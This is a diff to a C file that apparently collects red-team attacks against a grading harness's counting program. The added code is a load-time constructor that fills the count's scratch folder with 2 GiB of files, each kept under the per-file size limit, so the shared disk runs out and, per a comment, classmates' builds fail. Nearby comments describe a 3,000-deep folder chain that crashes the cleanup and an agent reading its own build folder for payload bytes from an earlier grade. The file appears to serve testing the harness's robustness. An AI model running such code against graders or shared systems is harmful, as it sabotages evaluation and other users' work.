@@ -220,7 +220,8 @@
 #define SILENT_SIGSYS 68
 /* Red-team pass 18: in the program valgrind counts, a chain of 3,000 nested folders in the count's
    scratch folder (TMPDIR), its clean-up's recursion then past Python's limit: a traceback, and
-   the tree left behind. */
+   the tree left behind. With ATTACK_PATH "files" (red-team pass 20), files until the disk is
+   full, each within the count's file size limit: the classmates' builds failed. */
 #define COUNT_LITTER 69
 /* Red-team pass 19: the agent read its own source in its library's build folder (where a comment
    could carry payload bytes an earlier grade had seen); mm_init fails when it can. */
@@ -451,11 +452,32 @@ __attribute__((constructor)) static void fork_in_the_count(void) {
 
 #if ATTACK == COUNT_LITTER
 #include <sys/stat.h>
+/* With ATTACK_PATH "files": 64 MiB files, 2 GiB in all, in 1 MiB writes (each file within the
+   count's RLIMIT_FSIZE, their number not), as a count that fills the disk under its classmates'
+   builds. */
+static void fill_the_count(int folder) {
+    static char chunk[1 << 20];
+    memset(chunk, 1, sizeof chunk);
+    for (int file = 0; file < 32; file++) {
+        char name[16];
+        snprintf(name, sizeof name, "f%d", file);
+        int fd = openat(folder, name, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+        for (int i = 0; fd >= 0 && i < 64; i++)
+            if (write(fd, chunk, sizeof chunk) != (ssize_t)sizeof chunk)
+                return;
+        close(fd);
+    }
+}
+
 __attribute__((constructor)) static void litter_the_count(void) {
     const char *scratch = getenv("TMPDIR");
     if (strcmp(program_invocation_short_name, "mscount") != 0 || scratch == NULL)
         return;
     int fd = open(scratch, O_RDONLY | O_DIRECTORY);
+    if (strcmp(ATTACK_PATH, "files") == 0) {
+        fill_the_count(fd);
+        return;
+    }
     for (int i = 0; fd >= 0 && i < 3000 && mkdirat(fd, "d", 0700) == 0; i++) {
         int next = openat(fd, "d", O_RDONLY | O_DIRECTORY);
         close(fd);
